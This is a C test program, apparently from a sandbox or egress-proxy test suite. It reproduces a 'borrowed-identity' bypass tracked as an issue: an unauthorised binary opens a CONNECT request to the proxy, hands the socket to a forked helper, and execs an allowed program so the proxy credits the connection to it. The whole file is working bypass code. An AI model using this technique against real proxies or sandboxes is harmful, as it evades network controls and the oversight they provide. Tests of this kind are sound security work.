/* borrow HOST:PORT ALLOWED: the borrowed-identity attack of issue 17 item 1, exactly. This binary
 * (which no rule allows) connects to the proxy named by $HTTPS_PROXY and sends a CONNECT head
 * without its final CRLF, passes the socket to a helper (a fork) over a socketpair, and execs
 * ALLOWED keeping the socket. The helper finishes the head with TCP_CORK set (the kernel sends
 * it up to 200 ms later), parks its copy in flight in a socketpair so that only ALLOWED holds
 * the socket when the proxy decides, takes it back, and prints `status=<code>`.
 * Exit 0 when a status came back, 1 otherwise, 100 usage, 111 system.
 */
#include "common.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <sys/wait.h>

static int send_fd(int via, int fd)
{
	char b = 'F';
	struct iovec iov = {.iov_base = &b, .iov_len = 1};
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	memset(&u, 0, sizeof(u));
	struct msghdr mh = {.msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = u.buf,
			    .msg_controllen = sizeof(u.buf)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	return sendmsg(via, &mh, 0) == 1 ? 0 : -1;
}

static int recv_fd(int via)
{
	char b;
	struct iovec iov = {.iov_base = &b, .iov_len = 1};
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	struct msghdr mh = {.msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = u.buf,
			    .msg_controllen = sizeof(u.buf)};
	if (recvmsg(via, &mh, 0) != 1)
		return -1;
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	if (!c || c->cmsg_type != SCM_RIGHTS)
		return -1;
	int fd;
	memcpy(&fd, CMSG_DATA(c), sizeof(int));
	return fd;
}

/* The helper: gets the socket, finishes the head, hides, takes it back, reads the answer. */
static int helper(int chan)
{
	int fd = recv_fd(chan);
	if (fd < 0)
		th_die("borrow", "recv_fd");
	usleep(300 * 1000); /* the parent has exec'd ALLOWED by now */
	int park[2];
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, park) < 0)
		th_die("borrow", "socketpair");
	int one = 1;
	if (setsockopt(fd, IPPROTO_TCP, TCP_CORK, &one, sizeof(one)) < 0)
		th_die("borrow", "TCP_CORK");
	if (th_write_str(fd, "\r\n") < 0)
		th_die("borrow", "write");
	/* In flight, the socket belongs to no process: ALLOWED is its only holder. */
	if (send_fd(park[0], fd) < 0)
		th_die("borrow", "park");
	close(fd);
	usleep(1500 * 1000); /* corked bytes leave within 200 ms; the proxy decides */
	fd = recv_fd(park[1]);
	if (fd < 0)
		th_die("borrow", "unpark");
	char line[512];
	size_t n = 0;
	while (n + 1 < sizeof(line)) {
		ssize_t r = read(fd, line + n, 1);
		if (r <= 0 || line[n] == '\n')
			break;
		n++;
	}
	line[n] = '\0';
	const char *sp = strchr(line, ' ');
	printf("status=%d\n", sp ? atoi(sp + 1) : 0);
	fflush(stdout);
	return sp ? TH_EXIT_OK : TH_EXIT_CHECK;
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return TH_EXIT_USAGE;
	const char *proxy = getenv("HTTPS_PROXY");
	char ip[64];
	unsigned port = 0;
	if (!proxy || sscanf(proxy, "http://%63[0-9.]:%u", ip, &port) != 2)
		return TH_EXIT_USAGE;
	struct sockaddr_in sa;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)port);
	if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1)
		return TH_EXIT_USAGE;
	int fd = socket(AF_INET, SOCK_STREAM, 0); /* no CLOEXEC: ALLOWED inherits it */
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		printf("status=connect-failed errno=%d\n", errno);
		return TH_EXIT_CHECK;
	}
	char req[512];
	int n = snprintf(req, sizeof(req), "CONNECT %s HTTP/1.1\r\nHost: %s\r\n", argv[1], argv[1]);
	if (n < 0 || (size_t)n >= sizeof(req) || th_write_all(fd, req, (size_t)n) < 0)
		return TH_EXIT_SYS;
	int chan[2];
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, chan) < 0)
		th_die("borrow", "socketpair");
	fflush(stdout);
	pid_t pid = fork();
	if (pid < 0)
		th_die("borrow", "fork");
	if (pid == 0) {
		close(chan[0]);
		close(fd); /* it arrives over the socketpair instead */
		_exit(helper(chan[1]));
	}
	close(chan[1]);
	if (send_fd(chan[0], fd) < 0)
		th_die("borrow", "send_fd");
	char hold[16] = "4";
	char *args[] = {argv[2], hold, NULL};
	execv(argv[2], args);
	th_die("borrow", "exec ALLOWED");
}
